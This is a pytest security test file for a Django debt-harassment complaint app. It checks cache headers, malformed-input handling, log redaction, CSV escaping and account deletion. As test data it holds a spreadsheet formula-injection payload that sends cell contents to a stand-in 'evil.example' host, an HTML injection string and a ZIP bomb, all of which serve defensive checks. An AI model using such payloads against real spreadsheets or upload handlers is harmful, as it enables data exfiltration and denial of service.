"""docs/SECURITY.md, responses and logs: no caching of personal pages, clear messages for malformed input,
private error logs, CSV without formulas, SMS senders checked, account deletion."""

import csv
import hashlib
import io
import json
import logging
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from complaints.csv_safe import csv_cell, csv_cell_unescaped
from complaints.models import AuditEvent, Case, Evidence, LogEntry, User
from complaints.services.evidence_archive import EvidenceArchiveError, evidence_archive_import
from complaints.services.staff import claim_code_issue
from complaints.sms_import import parse_sms_export
from tests.factories import (
    BorrowerFactory,
    CaseFactory,
    ClinicAdminFactory,
    ClinicFactory,
    LogEntryFactory,
    StaffFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.security]

RIGHT = "correct-horse-battery-staple"


@pytest.fixture
def shared():
    clinic = ClinicFactory()
    staff = StaffFactory(clinic=clinic)
    case = CaseFactory(shared_with=clinic, joint_consent=True, numbers=["+8617012345678"])
    LogEntryFactory(case=case)
    return clinic, staff, case


def test_pages_with_personal_data_are_never_stored(client, shared):
    clinic, staff, case = shared
    client.force_login(case.owner)
    for url in (reverse("cases:detail", args=[case.pk]), reverse("cases:edit_section", args=[case.pk, "borrower"]),
                reverse("log:list", args=[case.pk]), reverse("cases:steps", args=[case.pk]), reverse("cases:list")):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], url
    client.force_login(staff)
    for url in (reverse("staff:case", args=[case.pk]), reverse("staff:queue"), reverse("staff:case_audit", args=[case.pk])):
        assert "no-store" in client.get(url)["Cache-Control"], url
    walk_in = CaseFactory(owner=None, shared_with=clinic)
    response = client.post(reverse("staff:case_claim_code", args=[walk_in.pk]))
    assert "no-store" in response["Cache-Control"]


def test_a_log_entry_in_year_one_gets_a_message_not_a_500(client, shared):
    _clinic, _staff, case = shared
    client.force_login(case.owner)
    response = client.post(reverse("log:entry_create", args=[case.pk]), {"at": "0001-01-01T00:00", "channel": "sms", "target": "self"})
    assert response.status_code in (200, 400)
    assert "1900 年到 2100 年" in response.content.decode()
    assert LogEntry.objects.filter(case=case).count() == 1


def test_a_case_id_beyond_64_bits_is_a_plain_404(client, shared):
    _clinic, _staff, case = shared
    client.force_login(case.owner)
    response = client.get(f"/cases/{2**70}/")
    assert response.status_code == 404


def test_a_deeply_nested_case_file_gets_a_message_not_a_500(client):
    client.force_login(BorrowerFactory())
    deep = b'{"spec": "zhirao-case/1", "borrower": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    response = client.post(reverse("cases:import"), {"case_file": SimpleUploadedFile("case.json", deep, content_type="application/json")})
    assert response.status_code in (200, 400)
    assert "嵌套太深" in response.content.decode()
    assert not Case.objects.exists()


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def test_a_huge_manifest_is_not_read_into_memory(shared):
    _clinic, _staff, case = shared
    # 20 MB of spaces compress to a few KB: the ZIP is small, the member is not.
    bomb = _zip({"manifest.json": b'{"spec": "zhirao-evidence/1", "files": []' + b" " * (20 * 1024 * 1024) + b"}"})
    assert len(bomb.getvalue()) < 200_000
    with pytest.raises(EvidenceArchiveError, match="太大"):
        evidence_archive_import(case=case, archive_file=bomb, actor=case.owner)


def test_a_deeply_nested_manifest_is_refused(shared):
    _clinic, _staff, case = shared
    with pytest.raises(EvidenceArchiveError, match="损坏"):
        evidence_archive_import(case=case, archive_file=_zip({"manifest.json": b"[" * 50_000}), actor=case.owner)


def test_an_evidence_zip_counts_against_the_cases_room(shared, settings):
    _clinic, _staff, case = shared
    default_storage.save("evidence/existing", ContentFile(b"x" * 1000))
    Evidence.objects.create(case=case, sha256="a" * 64, size=900, kind="image", content_type="image/png",
                            original_name="a.png", storage_name="evidence/existing")
    settings.EVIDENCE_MAX_CASE_BYTES = 1000
    payload = b"some evidence text " * 10  # 190 bytes: over the 100 bytes left
    manifest = {"spec": "zhirao-evidence/1", "files": [{"file": "note.txt", "sha256": hashlib.sha256(payload).hexdigest(), "kind": "text"}]}
    archive = _zip({"manifest.json": json.dumps(manifest).encode(), "note.txt": payload})
    with pytest.raises(EvidenceArchiveError, match="总量上限"):
        evidence_archive_import(case=case, archive_file=archive, actor=case.owner)
    assert case.evidence.count() == 1


def test_server_errors_are_logged_to_stderr_without_personal_data(monkeypatch, shared):
    _clinic, _staff, _case = shared
    secret = "身份证 11010119900307123X 手机 13800138000 +86 170 1234 5678 再不还钱就曝光你全家"

    def boom():
        raise ValueError(secret)

    monkeypatch.setattr("complaints.views.pages.clinics_open_for_sharing", boom)
    handler = next(h for h in logging.getLogger("django.request").handlers if h.level == logging.ERROR)
    stream = io.StringIO()
    monkeypatch.setattr(handler, "stream", stream)
    client = Client(raise_request_exception=False)
    response = client.post(reverse("clinics") + "?phone=13800138000", {"text": "再不还钱就曝光你全家"})
    assert response.status_code in (405, 500)
    client.get(reverse("clinics") + "?phone=13800138000")
    logged = stream.getvalue()
    assert "ValueError" in logged and "Internal Server Error" in logged and "pages.py" in logged
    for private in ("11010119900307123X", "13800138000", "1234 5678", "曝光", "110101"):
        assert private not in logged


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example?"&A2,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_start_a_formula_are_escaped(value):
    assert csv_cell(value).startswith("'") and csv_cell_unescaped(csv_cell(value)) == value
    assert csv_cell("张三") == "张三" and csv_cell(-3) == -3


def test_every_staff_csv_export_escapes_formulas(client):
    clinic = ClinicFactory()
    client.force_login(ClinicAdminFactory(clinic=clinic))
    CaseFactory(shared_with=clinic, joint_consent=True, numbers=["+8617012345678"], borrower_name="=HYPERLINK(1)",
                lender_name="@evil")
    exports = [reverse("staff:collector_export_csv") + "?kind=number&key=%2B8617012345678", reverse("staff:reports_csv")]
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), (url, cells)
    text = client.get(exports[0]).content.decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in text and "'@evil" in text


def test_sms_import_keeps_a_sender_that_is_no_number_out_of_from_number():
    export = (b'<?xml version="1.0"?><smses count="2">'
              b'<sms address="&lt;img src=x&gt;" date="1773500000000" type="1" body="pay now" />'
              b'<sms address="95588" date="1773500060000" type="1" body="bank" /></smses>')
    result = parse_sms_export(export)
    senders = [message.from_number for message in result.messages]
    assert senders == ["", "95588"]
    assert "<img src=x>" in result.messages[0].text  # kept as what the phone showed, in the text (escaped on pages)


def test_a_borrower_deletes_her_account_with_every_case_and_file(client, shared, django_capture_on_commit_callbacks):
    _clinic, _staff, case = shared
    owner = case.owner
    owner.set_password(RIGHT)
    owner.save()
    default_storage.save("evidence/hers", ContentFile(b"screenshot"))
    Evidence.objects.create(case=case, sha256="b" * 64, size=10, kind="image", content_type="image/png",
                            original_name="s.png", storage_name="evidence/hers")
    AuditEvent.objects.create(actor=owner, action="case.section_update", subject_type="complaints.case", subject_id=str(case.pk),
                              case_id=case.pk, old_value={"phone": "+8613800138000"}, new_value={"phone": "+8613900139000"})
    client.force_login(owner)
    assert client.get(reverse("account_delete")).status_code == 200
    refused = client.post(reverse("account_delete"), {"password": "wrong"})
    assert refused.status_code == 400 and User.objects.filter(pk=owner.pk).exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("account_delete"), {"password": RIGHT})
    assert response.status_code == 302
    assert not default_storage.exists("evidence/hers")
    assert not User.objects.filter(pk=owner.pk).exists() and not Case.objects.filter(pk=case.pk).exists()
    assert "_auth_user_id" not in client.session
    assert AuditEvent.objects.filter(action="account.delete", subject_id=str(owner.pk)).exists()
    leftover = AuditEvent.objects.filter(case_id=case.pk).exclude(action="case.delete")
    assert all(event.old_value is None and event.new_value is None for event in leftover)
    assert "13800138000" not in json.dumps(list(AuditEvent.objects.values("old_value", "new_value")))


def test_staff_cannot_delete_their_account_there(client):
    staff = StaffFactory()
    client.force_login(staff)
    response = client.post(reverse("account_delete"), {"password": RIGHT})
    assert response.status_code == 400 and User.objects.filter(pk=staff.pk).exists()


def test_claim_code_page_is_not_stored(client):
    clinic = ClinicFactory()
    staff = StaffFactory(clinic=clinic)
    code = claim_code_issue(actor=staff, case=CaseFactory(owner=None, shared_with=clinic))
    client.force_login(BorrowerFactory())
    response = client.post(reverse("claim:claim"), {"code": code})
    assert "no-store" in response["Cache-Control"]
